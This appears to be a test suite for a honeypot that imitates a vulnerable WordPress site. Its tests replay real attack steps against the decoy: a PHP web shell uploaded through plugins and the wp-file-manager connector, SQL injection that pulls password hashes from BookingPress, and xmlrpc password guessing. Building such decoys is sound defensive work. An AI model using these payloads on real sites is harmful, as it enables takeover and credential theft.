"""WordPress: conversations with it, and the sequences of public tools up to what they came for."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import zipfile
from collections.abc import Iterator
from urllib.parse import urlencode

import msgspec
import pytest

from mirage.base.clock import SECOND
from mirage.base.events import ArtifactCaptured, LoginAttempted
from mirage.gateway.http.databases import Databases
from mirage.gateway.http.sites.wordpress.accounts import WEAK
from mirage.gateway.http.sites.wordpress.hashes import portable
from mirage.world import accounts
from mirage.world.host import Host
from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin

BLOG = "http://web.example.com"
SHELL = b"<?php system($_GET['c']); ?>"
FINDER = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"


@pytest.fixture
async def blog(host: Host) -> Machine:
    return begin(host, "wordpress")


@pytest.fixture
def served(blog: Machine, host: Host) -> Iterator[Machine]:
    """With the machine's database server."""
    host.databases = Databases(blog.service)
    yield blog
    host.databases = None


def _form(**values: str) -> bytes:
    return urlencode(values).encode()


async def _guessed(blog: Machine) -> str:
    """The administrator's password, found as those find it who try the usual ones over xmlrpc.php."""
    for word in WEAK:
        if b"<fault>" not in (await _call(blog, "wp.getUsersBlogs", "admin", word)).body:
            return word
    raise AssertionError


async def _call(blog: Machine, method: str, *values: str) -> Answer:
    params = "".join(f"<param><value><string>{value}</string></value></param>" for value in values)
    body = f'<?xml version="1.0"?><methodCall><methodName>{method}</methodName><params>{params}</params></methodCall>'
    return await blog.ask("POST", "/xmlrpc.php", body.encode(), {"Content-Type": "text/xml"})


async def _entered(blog: Machine) -> None:
    answer = await blog.ask("POST", "/wp-login.php", _form(log="admin", pwd=await _guessed(blog), redirect_to=f"{BLOG}/there"))
    assert (answer.status, answer.field("Location")) == (302, f"{BLOG}/there")
    assert any(name.startswith("wordpress_logged_in_") for name in blog.cookies)


def _archive(**files: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/") + ".php", data)
    return packed.getvalue()


def _nonce(answer: Answer, name: str = "_wpnonce") -> str:
    found = re.search(rf'name="{name}" value="([0-9a-f]+)"', answer.body.decode())
    assert found is not None
    return found[1]


def _upload(data: bytes, **values: str) -> tuple[bytes, dict[str, str]]:
    parts = [f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode() for name, value in values.items()]
    head = b'--x\r\nContent-Disposition: form-data; name="pluginzip"; filename="evil.zip"\r\nContent-Type: application/octet-stream\r\n\r\n'
    return b"".join(parts) + head + data + b"\r\n--x--\r\n", {"Content-Type": "multipart/form-data; boundary=x"}


async def test_metasploit_s_wp_admin_shell_upload_gets_its_shell(blog: Machine) -> None:
    """exploit/unix/webapp/wp_admin_shell_upload: detect, log in, nonce, upload a plugin, ask for the payload."""
    assert b"/wp-json/" in (await blog.ask("GET", "/")).head
    await _entered(blog)
    form = await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload")
    plugin = b"<?php\n/**\n * Plugin Name: abcdefghij\n * Version: 1.2.3\n * Author: klm\n */\n?>"
    archive = _archive(abcdefghij__abcdefghij=plugin, abcdefghij__payload=SHELL)
    body, fields = _upload(archive, _wpnonce=_nonce(form), _wp_http_referer="/wp-admin/plugin-install.php?tab=upload")
    installed = await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)
    assert (installed.status, b"plugin=abcdefghij%2Fabcdefghij.php" in installed.body) == (200, True)
    shell = await blog.ask("GET", "/wp-content/plugins/abcdefghij/payload.php?c=id")
    assert (shell.status, shell.body) == (200, b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
    path = "/usr/share/wordpress/wp-content/plugins/abcdefghij/payload.php"
    assert blog.read(path) == SHELL
    kept = {event.sha256 for event in blog.events if isinstance(event, ArtifactCaptured) and event.path == path.encode()}
    assert kept == {hashlib.sha256(SHELL).hexdigest()}
    listed = await blog.ask("GET", "/wp-admin/plugins.php")
    assert b"abcdefghij/abcdefghij.php" in listed.body


def _part(boundary: str, name: str, value: bytes, file: str = "") -> bytes:
    named = f'; filename="{file}"' if file else ""
    return f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"{named}\r\n\r\n'.encode() + value + b"\r\n"


async def _finder(blog: Machine, *parts: bytes) -> Answer:
    return await blog.ask("POST", FINDER, b"".join(parts) + b"--y--\r\n", {"Content-Type": "multipart/form-data; boundary=y"})


async def test_metasploit_s_wp_file_manager_rce_uploads_its_payload(blog: Machine) -> None:
    """exploit/multi/http/wp_file_manager_rce: the version in readme.txt, cmd=upload by a stranger, then the payload is asked for."""
    readme = await blog.ask("GET", "/wp-content/plugins/wp-file-manager/readme.txt")
    assert (readme.status, b"\nStable tag: 6.7\n" in readme.body) == (200, True)
    assert (await blog.ask("GET", FINDER)).json == {"error": ["errUnknownCmd"]}
    sent = await _finder(
        blog, _part("y", "cmd", b"upload"), _part("y", "target", b"l1_"), _part("y", "upload[]", SHELL, "AbC123.php")
    )
    assert [entry["name"] for entry in sent.json["added"]] == ["AbC123.php"]
    shell = await blog.ask("GET", "/wp-content/plugins/wp-file-manager/lib/files/AbC123.php?c=id")
    assert shell.body == b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
    assert blog.read("/usr/share/wordpress/wp-content/plugins/wp-file-manager/lib/files/AbC123.php") == SHELL


async def test_the_same_tool_s_other_way_makes_a_file_and_fills_it(blog: Machine) -> None:
    await _finder(blog, _part("y", "cmd", b"mkfile"), _part("y", "target", b"l1_"), _part("y", "name", b"AbC123.php"))
    name = b"l1_" + base64.b64encode(b"AbC123.php")
    filled = await _finder(blog, _part("y", "cmd", b"put"), _part("y", "target", name), _part("y", "content", SHELL))
    assert [entry["size"] for entry in filled.json["changed"]] == [str(len(SHELL))]
    shell = await blog.ask("GET", "/wp-content/plugins/wp-file-manager/lib/files/AbC123.php?c=whoami")
    assert shell.body == b"www-data\n"


@pytest.mark.parametrize("path", [b"../../../../wp-config.php", b"a/../b", b"..", b""])
async def test_the_connector_leads_out_of_its_folder_to_nobody(blog: Machine, path: bytes) -> None:
    name = b"l1_" + base64.b64encode(path)
    answer = await _finder(blog, _part("y", "cmd", b"get"), _part("y", "target", name))
    assert answer.json == {"error": ["errOpen", f"#{name.decode()}", "errFileNotFound"]}


async def test_metasploit_s_bookingpress_module_takes_the_hashes_and_they_open_the_door(blog: Machine) -> None:
    """auxiliary/gather/wp_bookingpress_category_services_sqli: the page's nonce, a UNION, then name, address and hash of each account."""
    page = await blog.ask("POST", "/bookingpress/")
    assert page.body.startswith(
        b'<title>BookingPress</title><link rel="canonical" href="http://web.example.com/bookingpress/"><h1 class="a">B'
    )
    nonce = re.search(r"_wpnonce:'(\w+)'\s*};", page.body.decode())
    assert nonce is not None

    async def told(expression: str) -> str:
        form = _form(
            action="bookingpress_front_get_category_services", _wpnonce=nonce[1], category_id="1",
            total_service=f"4711) UNION ALL SELECT ({expression}),456,789,12,34,56,78,90,77 from wp_users-- -",
        )  # fmt: skip
        return str((await blog.ask("POST", "/wp-admin/admin-ajax.php", form)).json[0]["bookingpress_service_id"])

    assert await told("0x616263") == "abc"
    assert await told("select count(1) from wp_users") == "1"
    assert (
        await told("select group_concat(table_name) from information_schema.tables where table_name like 0x77705f757365727325")
        == "wp_users"
    )
    assert await told("select cast(ifnull(user_login,0x00) as binary) from wp_users limit 0,1") == "admin"
    kept = await told("select cast(ifnull(user_pass,0x00) as binary) from wp_users limit 0,1")
    assert portable(await _guessed(blog), kept[4:12]) == kept
    wrong = _form(action="bookingpress_front_get_category_services", _wpnonce="0123456789", category_id="1", total_service="1")
    assert (await blog.ask("POST", "/wp-admin/admin-ajax.php", wrong)).json["variant"] == "error"


async def test_a_statement_that_sleeps_takes_its_time_and_one_that_is_none_gives_nothing(blog: Machine) -> None:
    page = await blog.ask("GET", "/bookingpress/")
    nonce = re.search(r"_wpnonce:'(\w+)'", page.body.decode())[1]  # type: ignore[index]
    for total, seconds in (("1) AND (SELECT 1 FROM (SELECT(SLEEP(7)))a)-- -", 7), ("1'", 0)):
        before = blog.host.clock.now()
        form = _form(action="bookingpress_front_get_category_services", _wpnonce=nonce, category_id="1", total_service=total)
        answer = await blog.ask("POST", "/wp-admin/admin-ajax.php", form, turns=100_000)
        assert answer.status == 200 and (seconds or answer.json == [])
        assert seconds <= (blog.host.clock.now() - before) / 10**9 < seconds + 2


async def test_xmlrpc_is_guessed_at_in_bulk_as_its_tools_do(blog: Machine) -> None:
    """auxiliary/scanner/http/wordpress_xmlrpc_login, and the multicall of xmlrpc-bruteforcer: all after the first failure fail."""
    assert (await blog.ask("GET", "/xmlrpc.php")).status == 405
    right = await _guessed(blog)
    call = "".join(
        "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name>"
        f"<value><array><data><value>admin</value><value>{word}</value></data></array></value></member></struct></value>"
        for word in (right, "wrong", right)
    )
    text = f"<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>{call}</data></array></value></param></params></methodCall>"
    answer = await blog.ask("POST", "/xmlrpc.php", text.encode(), {"Content-Type": "text/xml"})
    parts = re.findall(r"<value><array><data>\n  <value><string>http|faultCode", answer.body.decode())
    assert [part == "faultCode" for part in parts] == [False, True, True]
    tried = [event.accepted for event in blog.events if isinstance(event, LoginAttempted)]
    assert tried[-2:] == [True, False]


async def test_a_plugin_s_file_is_edited_and_then_run(blog: Machine) -> None:
    """What wordpress_edit_plugin of Metasploit's mixin does, and hands in the editor."""
    await _entered(blog)
    nonce = _nonce(await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload"))
    body, fields = _upload(_archive(own__own=b"<?php\n/* Plugin Name: own */\n"), _wpnonce=nonce)
    await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)
    page = await blog.ask("GET", "/wp-admin/plugin-editor.php?file=own/own.php&plugin=own/own.php")
    assert b"/* Plugin Name: own */" in page.body
    edited = await blog.ask(
        "POST", "/wp-admin/plugin-editor.php",
        _form(action="update", nonce=_nonce(page, "nonce"), file="own/own.php", plugin="own/own.php", newcontent=SHELL.decode()),
    )  # fmt: skip
    assert edited.field("Location") == f"{BLOG}/wp-admin/plugin-editor.php?a=1&plugin=own/own.php&file=own/own.php"
    assert b"it is written" in (await blog.ask("GET", edited.field("Location").removeprefix(BLOG))).body
    assert (await blog.ask("GET", "/wp-content/plugins/own/own.php?c=whoami")).body == b"www-data\n"


async def test_a_nonce_that_was_never_given_out_is_too_old(blog: Machine) -> None:
    await _entered(blog)
    body, fields = _upload(_archive(own__own=b"<?php\n/* Plugin Name: own */\n"), _wpnonce="0123456789")
    assert (await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)).status == 403


async def test_who_has_no_cookie_is_sent_to_the_door(blog: Machine) -> None:
    answer = await blog.ask("GET", "/wp-admin/plugins.php?a=b")
    where = f"{BLOG}/wp-login.php?redirect_to=http%3A%2F%2Fweb.example.com%2Fwp-admin%2Fplugins.php%3Fa%3Db&reauth=1"
    assert (answer.status, answer.field("Location")) == (302, where)


async def test_the_login_form_says_what_is_wrong(blog: Machine) -> None:
    wrong = await blog.ask("POST", "/wp-login.php", _form(log="admin", pwd="nothing"))
    assert b"not the word of <strong>admin</strong>" in wrong.body
    unknown = await blog.ask("POST", "/wp-login.php", _form(log="b<i>o&b", pwd="nothing"))
    assert b"nobody is bo&amp;b" in unknown.body
    assert (await blog.ask("POST", "/wp-login.php", _form(log="&" * 100_000, pwd="nothing"))).status == 200
    assert b'id="login_error">who<' in (await blog.ask("POST", "/wp-login.php", _form(log="<bob>", pwd="nothing"))).body


async def test_people_are_counted_by_number_and_over_rest(blog: Machine) -> None:
    """wpscan's and auxiliary/scanner/http/wordpress_login_enum's ways to the names."""
    assert (await blog.ask("GET", "/?author=1")).field("Location") == f"{BLOG}/author/admin/"
    assert (await blog.ask("GET", "/?author=2")).status == 404
    users = (await blog.ask("GET", "/wp-json/wp/v2/users")).json
    assert users == [{"id": 1, "slug": "admin", "link": f"{BLOG}/author/admin/"}]
    assert (await blog.ask("GET", "/?rest_route=/wp/v2/users")).json == users


async def test_a_picture_is_kept_and_served_and_a_script_is_not(blog: Machine) -> None:
    word = await _guessed(blog)
    for name, is_kept in (("a.png", True), ("a.php", False)):
        bits = base64.b64encode(b"\x89PNG data").decode()
        struct = f"<struct><member><name>name</name><value><string>{name}</string></value></member><member><name>bits</name><value><base64>{bits}</base64></value></member></struct>"
        params = "".join(f"<param><value>{value}</value></param>" for value in ("1", "admin", word, struct))
        text = f"<methodCall><methodName>wp.uploadFile</methodName><params>{params}</params></methodCall>"
        answer = await blog.ask("POST", "/xmlrpc.php", text.encode(), {"Content-Type": "text/xml"})
        found = re.search(r"(/wp-content/uploads/\S+\.png)<", answer.body.decode())
        assert (found is not None) == is_kept
        if found is not None:
            assert (await blog.ask("GET", found[1])).body == b"\x89PNG data"
    plain = {"Content-Disposition": "attachment; filename=b.txt", "Content-Type": "text/plain"}
    assert (await blog.ask("POST", "/wp-json/wp/v2/media", b"words", plain)).json == {"code": "rest_cannot_create"}
    made = await blog.ask("POST", "/wp-json/wp/v2/media", b"words", {**plain, **await _allowed(blog)})
    assert (made.status, made.json["mime_type"]) == (201, "text/plain")


async def test_an_account_s_password_is_no_application_password(blog: Machine) -> None:
    """WordPress offers those over HTTPS alone, and nobody has made one: what is tried so is told, and opens nothing."""
    word = await _guessed(blog)
    basic = {"Authorization": "Basic " + base64.b64encode(f"admin:{word}".encode()).decode(), "Content-Type": "text/plain"}
    assert (await blog.ask("POST", "/wp-json/wp/v2/media", b"words", basic)).json == {"code": "rest_cannot_create"}
    tried = [event for event in blog.events if isinstance(event, LoginAttempted)]
    assert (tried[-1].password, tried[-1].accepted) == (word.encode(), False)


async def test_the_copy_of_the_configuration_opens_ssh(blog: Machine) -> None:
    leaked = (await blog.ask("GET", "/wp-config.php.bak")).body.decode()
    user, password = re.findall(r"'FTP_(?:USER|PASS)', '([^']+)'", leaked)
    assert f"\n{user}:".encode() in blog.read("/etc/passwd")
    assert accounts.verify(blog.host.view(blog.layer), user, password.encode()) is True


async def test_no_archive_leads_out_of_the_plugins_folder(blog: Machine) -> None:
    await _entered(blog)
    nonce = _nonce(await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload"))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as pack:
        pack.writestr("p/p.php", "<?php\n/* Plugin Name: p */")
        pack.writestr("p/../../../../../../../tmp/out.php", "x")
    body, fields = _upload(archive.getvalue(), _wpnonce=nonce)
    await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)
    with pytest.raises(FileNotFoundError):
        blog.read("/tmp/out.php")


async def _allowed(blog: Machine) -> dict[str, str]:
    """Header fields of a script in the administrator's browser."""
    await _entered(blog)
    return {"X-WP-Nonce": _nonce(await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload"))}


async def _written(blog: Machine, path: str, **values: str) -> Answer:
    """As the administrator; then a stranger looks again."""
    answer = await blog.ask("POST", path, msgspec.json.encode(values), await _allowed(blog))
    blog.cookies.clear()
    return answer


async def test_a_post_that_is_made_stands_on_all_pages_that_list_posts(blog: Machine) -> None:
    made = await _written(blog, "/wp-json/wp/v2/posts", title="Hacked by me", content="<p>you have been</p>", status="publish")
    number, place = made.json["id"], made.json["link"].removeprefix(BLOG)
    assert made.status == 201
    assert place.endswith("/hacked-by-me/")
    page = (await blog.ask("GET", place)).body.decode()
    assert "<h1>Hacked by me</h1><p>you have been</p>" in page
    front = (await blog.ask("GET", "/")).body.decode()
    assert front.index("Hacked by me") < front.index("Hello world!")
    assert (await blog.ask("GET", f"/?p={number}")).field("Location") == f"{BLOG}{place}"
    assert [entry["title"]["rendered"] for entry in (await blog.ask("GET", "/wp-json/wp/v2/posts")).json] == [
        "Hacked by me",
        "Hello world!",
    ]
    await _entered(blog)
    assert f'<tr id="post-{number}"' in (await blog.ask("GET", "/wp-admin/edit.php")).body.decode()


async def test_the_first_post_is_changed_where_it_stands(blog: Machine) -> None:
    assert (await _written(blog, "/wp-json/wp/v2/posts/1", title="Mine now")).status == 200
    front = (await blog.ask("GET", "/")).body.decode()
    assert "Mine now" in front
    assert "Hello world!" not in front


async def test_a_draft_is_seen_by_nobody_outside(blog: Machine) -> None:
    await _written(blog, "/wp-json/wp/v2/posts", title="Not yet", content="x")
    assert "Not yet" not in (await blog.ask("GET", "/")).body.decode()
    await _entered(blog)
    assert "Not yet" in (await blog.ask("GET", "/wp-admin/edit.php")).body.decode()


async def test_what_strangers_ask_is_answered_under_their_very_words(blog: Machine) -> None:
    """And under those that mean the same: a number that nobody has, a word that is not there, another way to the interface."""
    refused = {"code": "rest_invalid_param"}
    for query in ("per_page=1000", "per_page=0", "per_page=101", f"per_page={'9' * 18}"):
        answer = await blog.ask("GET", f"/wp-json/wp/v2/users?{query}")
        assert (answer.status, answer.json) == (400, refused), query
    assert (await blog.ask("GET", "/?rest_route=/wp/v2/users&per_page=500")).json == refused
    for strange in ("per_page=%C2%B2", "per_page=--5", f"page={'9' * 5000}", "page=%FF"):
        assert (await blog.ask("GET", f"/wp-json/wp/v2/users?{strange}")).status in (200, 400), strange
    assert (await blog.ask("GET", "/wp-json/wp/v2/posts/77")).json == {"code": "rest_post_invalid_id"}
    assert (await blog.ask("DELETE", "/wp-json/wp/v2/posts/1")).json == {"code": "rest_cannot_delete"}
    assert (await blog.ask("POST", "/wp-json/wp/v2/posts/1?_method=DELETE", b"")).json == {"code": "rest_cannot_delete"}
    assert (await blog.ask("GET", "/wp-json/wp/v2/users?_fields=slug")).json == [{"slug": "admin"}]
    called = await blog.ask("GET", "/wp-json/wp/v2/users?_fields=slug&_jsonp=cb")
    assert (called.body, called.field("Content-Type")) == (b'/**/cb([{"slug":"admin"}])', "application/javascript; charset=UTF-8")
    crossed = await blog.ask("GET", "/wp-json/wp/v2/users", fields={"Origin": "http://other.example.org"})
    assert crossed.field("Access-Control-Allow-Origin") == "http://other.example.org"


async def test_xml_rpc_carries_a_date_of_php_s_own_behind_the_rest(blog: Machine) -> None:
    answer = await _call(blog, "demo.sayHello")
    assert answer.names[-1] == "Date" and answer.field("Date").endswith(" +0000") and answer.names.count("Date") == 1
    assert b"<int>400</int>" in (await _call(blog, "wp.getUsersBlogs", "admin")).body
    assert b"<int>403</int>" in (await _call(blog, "wp.getUsersBlogs", "admin", "x")).body


async def test_a_form_that_asks_for_a_cookie_gets_it_or_says_so(blog: Machine) -> None:
    word = await _guessed(blog)
    form = _form(log="admin", pwd=word, testcookie="1")
    blocked = await blog.ask("POST", "/wp-login.php", form)
    assert (blocked.status, b"cookies are blocked" in blocked.body) == (200, True)
    blog.cookies = {"wordpress_test_cookie": "WP%20Cookie%20check"}
    assert (await blog.ask("POST", "/wp-login.php", form)).status == 302


async def test_what_pages_load_in_one_piece_finds_its_files_and_pictures(blog: Machine) -> None:
    scripts = await blog.ask("GET", "/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=hoverIntent&ver=6.1.9")
    assert (scripts.status, scripts.body) == (200, b"hover();\n")
    styles = await blog.ask(
        "GET", "/wp-admin/load-styles.php?c=0&load%5Bchunk_0%5D=forms,but&load%5Bchunk_1%5D=tons,forms,none&ver=6.1.9"
    )
    assert styles.body == b"a{background:url(images/spinner.gif)}\nb{background:url(../wp-includes/images/x.png)}\n"


async def test_a_page_that_leads_to_itself_does_so_once(blog: Machine) -> None:
    await _entered(blog)
    first = await blog.ask("GET", "/wp-admin/site-editor.php")
    assert (first.status, first.field("Location")) == (302, f"{BLOG}/wp-admin/site-editor.php?postType=wp_template")
    named = await blog.ask("GET", "/wp-admin/site-editor.php?postType=wp_template&postId=twentytwentythree%2F%2Fhome")
    assert (named.status, named.body) == (200, b"the editor of a template")


async def test_what_an_editor_s_page_asks_by_itself_is_answered_to_who_is_in(blog: Machine) -> None:
    asked = "/wp-json/wp/v2/blocks?per_page=100&context=edit&_locale=user"  # in whichever order
    assert (await blog.ask("GET", asked)).json == {"code": "rest_no_route"}
    allowed = await _allowed(blog)
    assert (await blog.ask("GET", asked, fields=allowed)).json == []
    template = await blog.ask("GET", "/?p=1&_wp-find-template=true")
    assert template.json == {"success": True, "data": {"slug": "single"}}
    beat = _form(action="heartbeat", _nonce=allowed["X-WP-Nonce"])
    told = (await blog.ask("POST", "/wp-admin/admin-ajax.php", beat)).json
    assert told == {"wp-auth-check": True, "server_time": blog.host.clock.now() // SECOND}
    assert (await blog.ask("POST", "/wp-admin/admin-ajax.php", _form(action="nothing_of_that_name"))).status == 400


async def test_the_grid_of_pictures_shows_what_was_uploaded(blog: Machine) -> None:
    plain = {"Content-Disposition": "attachment; filename=b.txt", "Content-Type": "text/plain"}
    await blog.ask("POST", "/wp-json/wp/v2/media", b"words", {**plain, **await _allowed(blog)})
    shown = (await blog.ask("POST", "/wp-admin/admin-ajax.php", _form(action="query-attachments"))).json
    (one,) = shown["data"]
    assert (shown["success"], one["filename"], one["filesizeInBytes"], one["mime"]) == (True, "b.txt", 5, "text/plain")
    assert (await blog.ask("GET", one["url"].removeprefix(BLOG))).body == b"words"


async def _client(served: Machine) -> str:
    """MariaDB's client as whoever reads the blog's configuration starts it."""
    config = served.read("/etc/wordpress/config-default.php").decode()
    name, user, password = re.findall(r"'DB_(?:NAME|USER|PASSWORD)', '(\w+)'", config)
    return f"mysql -u{user} -p{password} {name}"


async def test_what_the_configuration_says_of_the_database_opens_it(served: Machine) -> None:
    client = await _client(served)
    assert await served.shell(f"{client} -Ne 'select ID, user_login, left(user_pass, 4) from wp_users; show databases'") == (
        "1\tadmin\t$P$B\ninformation_schema\nwordpress\n"
    )
    assert "wordpress" in (await served.shell("mysql -Ne 'show databases'")).split()
    tables = (await served.shell(f"{client} -Ne 'show tables'")).split()
    assert {"wp_options", "wp_posts", "wp_users"} < set(tables)
    title = served.host.story.company.title
    assert await served.shell(f"{client} -Ne 'select option_value from wp_options where option_name = \"blogname\"'") == f"{title}\n"
    (first,) = [one["date"] for one in (await served.ask("GET", "/wp-json/wp/v2/posts")).json]
    assert await served.shell(f"{client} -Ne 'select post_date from wp_posts where ID = 1'") == first.replace("T", " ") + "\n"
    wrong = await served.shell("mysql -uwordpress -pwrong wordpress -e 'select 1'")
    assert wrong == "ERROR 1045 (28000): Access denied for user 'wordpress'@'localhost' (using password: YES)\n"


async def test_a_password_that_is_put_into_the_users_table_opens_the_blog(served: Machine) -> None:
    """Plain MD5, as the guides for lost passwords have it."""
    old, client = await _guessed(served), await _client(served)
    login = {"redirect_to": f"{BLOG}/there"}
    assert await served.shell(f"{client} -e \"update wp_users set user_pass = md5('mine') where user_login = 'admin'\"") == ""
    assert (await served.ask("POST", "/wp-login.php", _form(log="admin", pwd=old, **login))).status == 200
    answer = await served.ask("POST", "/wp-login.php", _form(log="admin", pwd="mine", **login))
    assert (answer.status, answer.field("Location")) == (302, f"{BLOG}/there")
    stranger = begin(served.host, "wordpress")
    assert await _guessed(stranger) == old
